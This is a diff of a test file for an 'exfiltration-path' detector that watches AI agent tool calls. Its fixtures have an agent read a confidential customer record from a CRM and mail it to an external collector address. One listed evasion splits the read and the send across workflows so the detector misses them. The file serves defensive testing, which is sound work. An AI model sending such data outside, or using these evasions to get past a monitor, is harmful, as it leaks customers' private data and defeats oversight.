@@ -1,29 +1,5 @@
 import type { DetectorEvasions } from '../../src/core/index.ts'
-import { story, type Told } from '../cases/story.ts'
-
-const w = story('wf-report', 'report-bot')
-const start = w.start('s', 0, { task: 'weekly-report', tools: ['crm.read', 'mail.send'] })
-const OUT = 'drop@collector.example'
-const RECORD = 'Customer Ada Byron, account 4711-0815, limit 25300, born 1985-12-10'
-const read = (id: string, second: number, teller = w): Told =>
-  teller.calls(id, second, 'crm.read', {
-    operation: 'read',
-    resource: { id: 'crm/ada', sensitivity: 'confidential' },
-    result: RECORD,
-  })
-const send = (id: string, second: number, body: string, call: Told = {}, more: Told = {}, teller = w): Told =>
-  teller.calls(
-    id,
-    second,
-    'mail.send',
-    {
-      operation: 'send',
-      destination: { id: OUT, type: 'email', external: true },
-      arguments: { to: OUT, body },
-      ...call,
-    },
-    more,
-  )
+import { OUT, RECORD, read, send, start, w } from '../cases/exfiltration-path.ts'
 
 export const evasions: DetectorEvasions = {
   detector: 'exfiltration-path',
@@ -98,7 +74,7 @@ export const evasions: DetectorEvasions = {
     {
       name: 'split over workflows',
       miss: 'data read in one workflow and sent in another, or where the event names none',
-      events: [start, read('r', 2), send('x', 5, RECORD, {}, {}, story('wf-other', 'report-bot'))],
+      events: [start, read('r', 2), send('x', 5, RECORD, {}, { workflow_id: 'wf-other' })],
     },
     {
       name: 'no more than a limit and a day of birth',
